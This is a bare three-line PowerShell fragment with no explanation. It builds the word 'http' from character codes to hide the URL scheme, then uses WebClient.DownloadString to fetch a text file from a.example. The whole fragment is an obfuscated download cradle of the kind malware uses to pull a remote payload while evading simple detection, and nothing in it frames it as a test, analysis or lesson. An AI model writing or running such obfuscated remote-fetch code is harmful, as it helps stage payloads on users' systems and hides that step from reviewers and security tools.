function k{process{[char]$_}}
$wc = New-Object System.Net.WebClient
$wc.DownloadString((((104,116,116,112 | k) -join '')+'://a.example/p/x.txt'))
